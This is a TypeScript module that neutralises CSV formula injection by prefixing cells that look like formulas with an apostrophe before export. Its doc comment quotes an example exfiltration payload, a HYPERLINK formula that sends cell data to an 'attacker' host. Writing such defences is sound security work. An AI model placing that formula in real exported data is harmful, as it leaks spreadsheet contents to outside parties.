import { stringify } from 'csv-stringify/sync';

/**
 * Characters that make a spreadsheet read a cell as a formula (OWASP, CSV injection): equals, plus, minus, at,
 * tab and carriage return at the start of the cell.
 */
const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * One CSV cell made inert for spreadsheets: a cell that starts like a formula gets a leading `'`, so Excel,
 * LibreOffice and Google Sheets show it as text and never evaluate it (a title such as
 * `=HYPERLINK("http://attacker/?d="&B2,"x")` would otherwise send data away). A lone `-` (the tables' "none") is
 * not a formula and stays as it is. Quotes and separators are the CSV writer's job.
 */
export function csvCell(value: string): string {
  return value !== '-' && FORMULA_START.test(value) ? `'${value}` : value;
}

/**
 * Every CSV the product writes goes through here: rows of cells, each neutralised by {@link csvCell}, quoted where
 * needed (RFC 4180), one record per line.
 */
export function toCsv(rows: readonly (readonly string[])[]): string {
  return stringify(rows.map((r) => r.map(csvCell)));
}
